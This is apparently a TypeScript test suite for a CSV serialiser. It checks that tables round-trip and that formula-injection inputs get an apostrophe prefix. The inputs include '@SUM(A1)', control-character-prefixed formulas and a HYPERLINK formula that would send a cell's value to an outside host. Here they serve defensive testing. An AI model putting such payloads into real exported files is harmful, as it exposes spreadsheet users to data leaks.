import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvText } from '../src/csv.js';

/** Reads what `csvText` writes, by RFC 4180. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\n]*))([,\n])/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

describe('a table', () => {
  it('is read as it was', () => {
    const cell = fc.string({ unit: fc.constantFrom('a', '"', ',', '\n', '\r', ' ', 'ß') });
    const safe = cell.filter((text) => !/^\r/.test(text));
    fc.assert(
      fc.property(
        fc.array(fc.array(safe, { minLength: 2, maxLength: 2 }), { minLength: 1 }),
        (rows) => {
          expect(cellsOf(csvText(rows))).toEqual(rows);
        },
      ),
    );
  });

  it('keeps numbers, and leaves empty what was not measured', () => {
    expect(csvText([[-1.5, 0, null, 1e-9]])).toBe('-1.5,0,,1e-9\n');
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '＝1',
    '=HYPERLINK("http://a/?"&A1,"b")',
  ])('holds no formula: %j', (text) => {
    const [[cell]] = cellsOf(csvText([[text, 'x']]));
    expect(cell).toBe(`'${text}`);
  });
});
